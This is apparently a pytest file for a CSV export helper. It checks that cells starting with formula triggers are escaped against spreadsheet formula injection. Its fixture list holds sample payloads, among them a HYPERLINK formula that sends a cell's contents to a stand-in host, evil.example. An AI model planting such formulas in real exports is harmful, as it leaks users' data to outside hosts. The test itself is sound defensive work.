"""CSV cells a spreadsheet would run as formulas are written as text (decision 59, OWASP CSV injection)."""
import csv
import io

import pytest

from township_shared.exports import safe_cell, to_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_with_a_formula_trigger_is_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["unit:water_station", "东坡村", "a=b", "", 0, -1.5, 3, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_to_csv_neutralises_every_text_cell_and_keeps_numbers():
    text = to_csv([{"key": HOSTILE[0], "rate": -0.5, "n": None}, {"key": "unit:ok", "rate": 1.0, "n": 2}],
                  ["key", "rate", "n"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["key", "rate", "n"], ["'" + HOSTILE[0], "-0.5", ""], ["unit:ok", "1.0", "2"]]
